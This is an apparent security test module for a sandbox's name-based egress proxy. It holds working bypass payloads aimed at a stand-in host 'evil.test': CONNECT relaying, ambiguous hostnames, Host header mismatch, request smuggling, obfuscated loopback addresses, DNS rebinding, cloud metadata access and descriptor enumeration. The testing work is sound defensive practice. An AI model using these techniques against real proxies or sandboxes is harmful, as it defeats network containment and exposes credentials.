"""Attacks on the one way out that a sandbox with a network has: the proxy that judges by name."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import replace

from tests.attack.case import Case
from tests.attack.ground import Victim
from tests.attack.victim_network import metadata, tcp
from tests.attack.victim_proxy import HERE, THERE, decoy, proxy, second_proxy, turned
from tests.attack.victims import open_folder
from tests.attack.way_out import WayOut

_PROXY = """
import socket
own = os.environ.get("HTTP_PROXY", "").endswith("127.0.0.1:3128")
at = ("127.0.0.1", 3128 if own else S["proxy"])
def ask(*texts):
    with socket.create_connection(at, 5) as one:
        one.settimeout(3)
        got = b""
        try:
            for text in texts:
                one.sendall(text.encode("latin-1"))
                got += one.recv(65536)
                if has_token(got): escaped("was answered")
            while (more := one.recv(65536)):
                got += more
                if has_token(got): escaped("was answered")
        except OSError: pass
        return got
def connect(place, host=""): return f"CONNECT {place} HTTP/1.1\\r\\nHost: {host or place}\\r\\n\\r\\n"
def get(url, host): return f"GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"
"""

_KNOWN: Mapping[str, Sequence[str]] = {name: [HERE] for name in ("a.test", "evil.test", "a.test.evil.test")}
_ONE = WayOut(("a.test",), _KNOWN)
_ALL = WayOut(("*",), _KNOWN)
_NONE = WayOut((), _KNOWN)
_TURN = WayOut(("*",), {"turn.test": [HERE]}, {"turn.test": [THERE]})
_META = WayOut(("*",), {"meta.test": ["169.254.169.254"]}, private=())


def _case(id: str, tries: str, payload: str, way: WayOut, *victims: Victim, everyday: bool = False) -> Case:
    return Case(id, "network", tries, _PROXY + payload, (*victims, proxy(way)), way_out=way, everyday=everyday)


CASES = (
    _case(
        "relayed-connect",
        "go through an allowed proxy to where one may not go",
        "ask(connect(f\"a.test:{S['second']}\"), connect(f\"evil.test:{S['tcp']}\"))",
        _ONE,
        tcp,
        second_proxy,
        everyday=True,
    ),
    _case(
        "name-with-two-readings",
        "reach a host by a name that begins like an allowed one",
        """
for place in (f"a.test@evil.test:{S['tcp']}", f"a.test.evil.test:{S['tcp']}", f"a.test:80@evil.test:{S['tcp']}"):
    ask(connect(place))
""",
        _ONE,
        tcp,
    ),
    _case(
        "another-host-in-the-request",
        "name an allowed host in the header and another one in the address",
        """
ask(get(f"http://evil.test:{S['tcp']}/", "a.test"))
ask(connect(f"evil.test:{S['tcp']}", "a.test"))
""",
        _ONE,
        tcp,
    ),
    _case(
        "second-request-behind-the-first",
        "hide a request to another host behind one that is allowed",
        """
first, place = f"a.test:{S['decoy']}", f"evil.test:{S['tcp']}"
ask(get(f"http://{first}/", first) + get(f"http://{place}/", place))
""",
        _ONE,
        tcp,
        decoy,
    ),
    _case(
        "address-for-a-name",
        "ask the proxy for an address instead of a name, in every spelling",
        """
for address in ("127.0.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]"):
    ask(connect(f"{address}:{S['tcp']}"))
    ask(get(f"http://{address}:{S['tcp']}/", f"{address}:{S['tcp']}"))
""",
        _ALL,
        tcp,
        everyday=True,
    ),
    _case(
        "rebinding",
        "have a name checked at one address and reached at another",
        """
for _ in range(3): ask(connect(f"turn.test:{S['turned']}"))
""",
        _TURN,
        turned,
        everyday=True,
    ),
    replace(
        _case(
            "name-of-the-metadata-service",
            "ask the proxy for a name that leads to the cloud's metadata service",
            'ask(connect("meta.test:80"))\nask(get("http://meta.test:80/", "meta.test:80"))',
            _META,
            metadata,
        ),
        own_network=True,
    ),
    replace(
        _case(
            "empty-list",
            "reach anything where the list of what may be reached is empty",
            """
ask(connect(f"evil.test:{S['tcp']}"))
ask(get(f"http://evil.test:{S['tcp']}/", f"evil.test:{S['tcp']}"))
""",
            _NONE,
            tcp,
        ),
        known_as="CVE-2025-66479",
    ),
    _case(
        "past-the-proxy",
        "have a network and not ask the proxy",
        """
for address in (("127.0.0.1", S["tcp"]), ("localhost", S["tcp"])):
    try: one = socket.create_connection(address, 2)
    except OSError: continue
    one.settimeout(2)
    if has_token(one.recv(100)): escaped("was answered")
""",
        _ALL,
        tcp,
    ),
    _case(
        "descriptors-of-the-way-out",
        "find the socket by which the sandbox was led to its proxy",
        """
for fd in range(3, 256):
    try: escaped(f"{fd} {os.fstat(fd)}")
    except OSError: continue
""",
        _ALL,
        open_folder,
    ),
)
